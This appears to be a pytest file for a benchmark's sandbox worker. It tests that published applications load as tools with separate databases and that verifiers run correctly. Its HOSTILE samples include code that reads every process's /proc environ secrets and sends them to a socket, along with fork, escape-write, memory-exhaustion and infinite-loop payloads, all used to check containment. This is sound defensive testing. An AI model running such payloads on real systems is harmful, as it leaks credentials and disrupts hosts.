"""An AWM scenario in the sandbox worker: the published application loads against a database built from its
schema and seed rows, its endpoints are tools, and each instance has a database of its own."""

from __future__ import annotations

import socket
import threading
from collections.abc import Iterator
from pathlib import Path

import pytest

from occubench.awm.data import load_set
from occubench.awm.folders import write_scenario
from occubench.sandbox import Provider
from occubench.sandbox.pool import Worker, WorkerFailed
from occubench.sandbox.provider import Limits
from tests.conftest import extra_reason

SERVICE = "occubench.awm.service"
SECONDS = 60.0


@pytest.fixture
def content_platform(sample: Path, tmp_path: Path, sandbox: Provider) -> Iterator[tuple[Worker, dict]]:
    pytest.importorskip("sqlalchemy", reason=extra_reason("awm"))
    write_scenario(load_set(sample).scenarios["content_platform_1"], tmp_path / "content_platform_1")
    worker = Worker(sandbox, SERVICE, [tmp_path], Limits())
    try:
        loaded = worker.request("load", {"folder": f"{worker.path(0)}/content_platform_1"}, SECONDS)
        yield worker, loaded
    finally:
        worker.kill()


@pytest.fixture
def listener() -> Iterator[tuple[int, list[bytes]]]:
    """A loopback listener that keeps whatever reaches it: a sandboxed worker must never connect."""
    server = socket.socket()
    server.bind(("127.0.0.1", 0))
    server.listen()
    server.settimeout(0.2)
    received: list[bytes] = []
    stop = threading.Event()

    def accept() -> None:
        while not stop.is_set():
            try:
                connection, _ = server.accept()
            except OSError:
                continue
            received.append(connection.recv(1 << 16) or b"connected")
            connection.close()

    thread = threading.Thread(target=accept, daemon=True)
    thread.start()
    yield server.getsockname()[1], received
    stop.set()
    thread.join()
    server.close()


def _subscriptions(worker: Worker, instance: int) -> list[int]:
    listed = worker.request("call", {"instance": instance, "tool": "list_user_subscriptions", "arguments": {}},
                            SECONDS)
    return sorted(item["channel_id"] for item in listed["subscriptions"])


def test_the_endpoints_are_tools_with_their_parameters(content_platform: tuple[Worker, dict]) -> None:
    _, loaded = content_platform
    tools = {tool["name"]: tool for tool in loaded["tools"]}
    assert len(tools) == 34 and loaded["problems"] == []
    assert tools["subscribe_to_channel"]["parameters"]["required"] == ["channel_id"]
    assert tools["subscribe_to_channel"]["parameters"]["properties"]["channel_id"]["type"] == "integer"


def test_a_writing_call_changes_its_instance_s_database_only(content_platform: tuple[Worker, dict]) -> None:
    worker, _ = content_platform
    first, second = (worker.request("open", {}, SECONDS) for _ in range(2))
    before = _subscriptions(worker, first)
    assert before == _subscriptions(worker, second) and 1 not in before
    answer = worker.request("call", {"instance": first, "tool": "subscribe_to_channel",
                                     "arguments": {"channel_id": 1}}, SECONDS)
    assert "error" not in answer
    assert _subscriptions(worker, first) == sorted([*before, 1]) and _subscriptions(worker, second) == before
    # A call the application refuses is the tool contract's error, not a failure of the worker.
    refused = worker.request("call", {"instance": first, "tool": "get_channel_by_id",
                                      "arguments": {"channel_id": "not a number"}}, SECONDS)
    assert refused["error"] == "invalid_arguments"
    missing = worker.request("call", {"instance": first, "tool": "get_channel_by_id",
                                      "arguments": {"channel_id": 999999}}, SECONDS)
    # This published application fails on a channel it does not have (its response model gets None): the
    # endpoint's exception is a failed tool call, as a server's 500 would be.
    assert missing["error"] == "tool_failed" and "HTTP 500" in missing["message"]


HOSTILE = {
    "reads_proc_and_connects": '''
import os, socket
secrets = [open(f"/proc/{pid}/environ", "rb").read() for pid in os.listdir("/proc") if pid.isdigit()]
connection = socket.create_connection(("127.0.0.1", {port}), timeout=2)
connection.sendall(b"".join(secrets) or b"nothing")
''',
    "forks": "import os\nif os.fork() == 0:\n    open('{mark}', 'w').write('child')\n",
    "writes_outside": "open('{mark}', 'w').write('escaped')\n",
    "allocates_10_gb": "hoard = bytearray(10 << 30)\n",
    "loops": "while True:\n    pass\n",
}


@pytest.mark.parametrize("attack", sorted(HOSTILE))
@pytest.mark.slow
def test_a_hostile_application_has_no_effect_outside_the_worker(attack: str, tmp_path: Path,
                                                                worker_sandbox: Provider,
                                                                listener: tuple[int, list[bytes]]) -> None:
    port, received = listener
    mark = tmp_path / "MARK"
    folder = tmp_path / "worlds" / "hostile"
    folder.mkdir(parents=True)
    (folder / "app.py").write_text(HOSTILE[attack].replace("{port}", str(port)).replace("{mark}", str(mark)))
    (folder / "schema.json").write_text('{"tables": [{"ddl": "CREATE TABLE t (id INTEGER)"}]}')
    worker = Worker(worker_sandbox, SERVICE, [tmp_path / "worlds"], Limits(cpu_seconds=20, memory_bytes=1 << 30))
    try:
        with pytest.raises(WorkerFailed):  # refused, failed, out of memory, or killed at its deadline
            worker.request("load", {"folder": f"{worker.path(0)}/hostile"}, 10.0)
    finally:
        worker.kill()
    assert not mark.exists() and received == []


PURE = '''
import sqlite3

def verify_task_completion(initial_db_path, final_db_path, final_answer=None):
    def subscribed(path):
        with sqlite3.connect(path) as connection:
            return {row[0] for row in connection.execute("SELECT channel_id FROM user_subscriptions")}
    added = subscribed(final_db_path) - subscribed(initial_db_path)
    return {"result": "complete" if added == {1} and "subscribed" in (final_answer or "") else "others"}
'''


@pytest.mark.slow
def test_verifiers_run_on_the_initial_and_final_databases(sample: Path, tmp_path: Path, sandbox: Provider) -> None:
    pytest.importorskip("sqlalchemy", reason=extra_reason("awm"))
    scenario = load_set(sample).scenarios["content_platform_1"]
    scenario.pure_verifiers = {0: PURE}
    scenario.verifiers = {0: "def verify_task(initial_db_path, final_db_path):\n    return {[}\n"}  # as published
    write_scenario(scenario, tmp_path / "content_platform_1")
    worker = Worker(sandbox, SERVICE, [tmp_path], Limits())
    try:
        worker.request("load", {"folder": f"{worker.path(0)}/content_platform_1"}, SECONDS)
        instance = worker.request("open", {}, SECONDS)
        verify = {"instance": instance, "task": 0, "mode": "pure", "answer": "I subscribed."}
        assert worker.request("verify", verify, SECONDS) == {"result": "others"}
        worker.request("call", {"instance": instance, "tool": "subscribe_to_channel", "arguments": {"channel_id": 1}},
                       SECONDS)
        assert worker.request("verify", verify, SECONDS) == {"result": "complete"}
        for mode, task, reason in (("code_augmented", 0, "does not compile"), ("pure", 5, "no pure verifier")):
            with pytest.raises(WorkerFailed, match=reason) as failed:
                worker.request("verify", {**verify, "mode": mode, "task": task}, SECONDS)
            assert failed.value.kind == "refused"
    finally:
        worker.kill()


@pytest.mark.parametrize("attack", sorted(HOSTILE))
@pytest.mark.slow
def test_a_hostile_verifier_has_no_effect_outside_the_worker(attack: str, sample: Path, tmp_path: Path,
                                                             worker_sandbox: Provider,
                                                             listener: tuple[int, list[bytes]]) -> None:
    port, received = listener
    mark = tmp_path / "MARK"
    body = HOSTILE[attack].replace("{port}", str(port)).replace("{mark}", str(mark))
    code = "def verify_task_completion(initial_db_path, final_db_path, final_answer=None):\n" + \
        "".join(f"    {line}\n" for line in body.strip().splitlines()) + "    return {'result': 'complete'}\n"
    scenario = load_set(sample).scenarios["content_platform_1"]
    scenario.pure_verifiers = {0: code}
    write_scenario(scenario, tmp_path / "worlds" / "content_platform_1")
    worker = Worker(worker_sandbox, SERVICE, [tmp_path / "worlds"], Limits(cpu_seconds=30, memory_bytes=1 << 30))
    try:
        worker.request("load", {"folder": f"{worker.path(0)}/content_platform_1"}, SECONDS)
        instance = worker.request("open", {}, SECONDS)
        with pytest.raises(WorkerFailed):  # failed, out of memory, or killed at its deadline: never "complete"
            worker.request("verify", {"instance": instance, "task": 0, "mode": "pure", "answer": ""}, 10.0)
    finally:
        worker.kill()
    assert not mark.exists() and received == []
